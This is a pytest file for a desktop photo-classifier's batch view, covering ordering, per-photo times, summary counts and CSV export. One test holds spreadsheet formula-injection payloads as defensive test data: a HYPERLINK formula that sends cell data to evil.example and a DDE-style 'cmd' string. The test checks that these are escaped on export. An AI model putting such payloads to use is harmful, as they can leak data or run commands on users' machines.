"""Batch results: each photo its own time, natural order, a summary line with consistent counts and
failures by cause, and a CSV with the per-photo numbers."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from PySide6.QtCore import Qt

from engines.types import CPU_EP, Classification, ClassScore, Placement
from tests.ui.conftest import SAMPLES
from tests.ui.fakes import FakeClassifier, opener_for
from ui.classify.batch import batch_summary
from ui.classify.photos import expand_paths
from ui.classify.view import ClassifyView
from ui.common.device_picker import DeviceChoiceModel

ON_CPU = Placement("Automatic", (CPU_EP,), (CPU_EP,), ((CPU_EP, 94),))
TIMEOUT = 60_000


def test_folders_expand_in_natural_order(tmp_path: Path) -> None:
    for name in ("astronaut_10.png", "astronaut_2.png", "Astronaut_1.png", "astronaut_11.png", "notes.txt"):
        (tmp_path / name).write_bytes(b"")
    found = expand_paths([str(tmp_path)])
    names = [Path(p).name for p in found.photos]
    assert names == ["Astronaut_1.png", "astronaut_2.png", "astronaut_10.png", "astronaut_11.png"]
    assert found.skipped == [(str(tmp_path / "notes.txt"), "not a photo")]  # said, not skipped silently


def _photo(i: int, pre_ms: float) -> Classification:
    return Classification(f"/p/photo_{i}.png", (ClassScore(0, "tabby", 0.9),), 4.0, pre_ms, ON_CPU)


def test_each_row_shows_its_own_time_and_the_summary_counts_agree(qtbot: Any, tmp_path: Path) -> None:
    view = ClassifyView(DeviceChoiceModel())
    qtbot.addWidget(view)
    paths = [str(SAMPLES / "chelsea.png")] * 4
    view.classify_paths(paths)
    results = [_photo(0, 1.0), _photo(1, 7.5), _photo(2, 3.25)]
    bad = Classification("/p/broken.jpg", (), 0.0, 0.0, ON_CPU, error="Could not decode 'broken.jpg': truncated file.")
    for r in [*results, bad]:
        view.show_result(r)
    view.show_finished({"count": 4, "errors": 1, "seconds": 0.5})
    times = [view.batch.results.data(view.batch.results.index(row, 3)) for row in range(3)]
    assert times == ["5.0", "11.5", "7.2"]  # decode + preprocessing + inference, per photo
    assert len(set(times)) == 3
    assert view.batch.results.data(view.batch.results.index(0, 4)) == "CPU · 94/94"  # the chip's short form
    assert "CPU · 94/94 nodes" in view.batch.results.data(view.batch.results.index(0, 4), Qt.ItemDataRole.ToolTipRole)
    summary = view.batch.summary.text()
    assert summary.startswith("4 photos in 0.5 s (8 photos/s)")
    assert "3 classified" in summary and "1 failed (1× Could not decode)" in summary
    assert view.inputs.status_text() == "3 of 4 classified"
    assert view.banners.messages() == ["1 of 4 photos could not be classified."]
    out = tmp_path / "out.csv"
    view.batch.export_csv(str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["photo_ms"] for r in rows[:3]] == ["5.000", "11.500", "7.250"]
    assert rows[3]["error"].startswith("Could not decode")


def test_summary_of_a_cancelled_batch_counts_what_did_not_run() -> None:
    text = batch_summary([_photo(0, 1.0)], None, 5)
    assert text == "5 photos · 1 classified · 4 not run"


def test_a_real_batch_through_the_app_has_differing_rows(make_studio: Any, qtbot: Any, tmp_path: Path) -> None:
    class Varying(FakeClassifier):
        def _result(self, path: str) -> Classification:
            return Classification(str(path), (ClassScore(0, "tabby", 0.9),), 2.0, float(len(path)), self.placement)

    studio = make_studio(open_classifier=opener_for(lambda folder, choice: Varying()))
    for name in ("a.png", "bb.png", "ccc.png"):
        (tmp_path / name).write_bytes((SAMPLES / "chelsea.png").read_bytes())
    (tmp_path / "notes.txt").write_text("not a photo")
    view = studio.classify_view
    view.classify_paths([str(tmp_path)])
    qtbot.waitUntil(lambda: not view.busy, timeout=TIMEOUT)
    times = {view.batch.results.data(view.batch.results.index(row, 3)) for row in range(3)}
    assert len(times) == 3
    assert view.batch.summary.text().startswith("3 photos in ")
    # the folder's other file is said, with its name in the tooltip
    assert view.inputs.status_text() == "3 of 3 classified · 1 file skipped: not a photo"
    assert view.batch.skipped.text() == "1 file skipped: not a photo (notes.txt)"
    assert view.batch.skipped.isVisibleTo(view)
    assert "notes.txt: not a photo" in view.batch.skipped.toolTip()


def test_the_batch_csv_never_hands_a_spreadsheet_a_formula(qtbot: Any, tmp_path: Path) -> None:
    """A classifier label or a photo's name that starts a formula is written as text (engines/csvfile.py)."""
    view = ClassifyView(DeviceChoiceModel())
    qtbot.addWidget(view)
    label = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    hostile = Classification("@photo.png", (ClassScore(0, label, 0.9), ClassScore(1, "-2+3", 0.1)), 4.0, 1.0,
                             ON_CPU, error="+cmd|' /C calc'!A0")
    view.classify_paths([str(SAMPLES / "chelsea.png")] * 2)
    view.show_result(hostile)
    view.show_finished({"count": 2, "errors": 1, "seconds": 0.1})
    out = tmp_path / "out.csv"
    view.batch.export_csv(str(out))
    row = next(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert row["label_1"] == "'" + label and row["label_2"] == "'-2+3"
    assert row["path"] == "'@photo.png" and row["error"] == "'+cmd|' /C calc'!A0"
    assert row["probability_1"] == "0.900000" and row["latency_ms"] == "4.000"


def test_export_says_where_it_saved_and_opens_its_folder(qtbot: Any, tmp_path: Path) -> None:
    view = ClassifyView(DeviceChoiceModel())
    qtbot.addWidget(view)
    view.classify_paths([str(SAMPLES / "chelsea.png")] * 2)
    view.show_result(_photo(0, 1.0))
    view.show_result(_photo(1, 2.0))
    view.show_finished({"count": 2, "errors": 0, "seconds": 0.1})
    opened: list[str] = []
    view.batch.open_url = lambda url: opened.append(url.toLocalFile()) or True
    view.batch.choose_csv = lambda suggested: str(tmp_path / "out.csv")
    view.batch.export_button.click()
    assert (tmp_path / "out.csv").is_file()
    assert view.batch.saved.text() == "Saved out.csv" and view.batch.saved.isVisibleTo(view)
    view.batch.show_export_button.click()
    assert opened == [str(tmp_path)]
    # a folder that cannot be written: one banner that says so, and no "Saved"
    view.batch.choose_csv = lambda suggested: str(tmp_path / "missing" / "out.csv")
    view.batch.export_button.click()
    assert view.banners.messages() == [f"Could not write {tmp_path / 'missing' / 'out.csv'}."]
    assert not view.batch.saved.isVisibleTo(view)


def test_batch_times_say_they_are_shares_of_the_batch(qtbot: Any) -> None:
    view = ClassifyView(DeviceChoiceModel())
    qtbot.addWidget(view)
    cat = str(SAMPLES / "chelsea.png")
    view.classify_paths([cat] * 2)
    view.show_result(Classification(cat, (ClassScore(0, "tabby", 0.9),), 4.0, 1.0, ON_CPU))
    view.show_finished(None)
    assert "its share of the batch" in view.result_panel.latency.text()
    tip = view.batch.results.data(view.batch.results.index(0, 3), Qt.ItemDataRole.ToolTipRole)
    assert "share of the batch" in tip
    view.classify_paths([str(SAMPLES / "coffee.png")])
    view.show_result(_photo(2, 1.0))
    view.show_finished(None)
    assert "share" not in view.result_panel.latency.text()  # one photo: its own inference
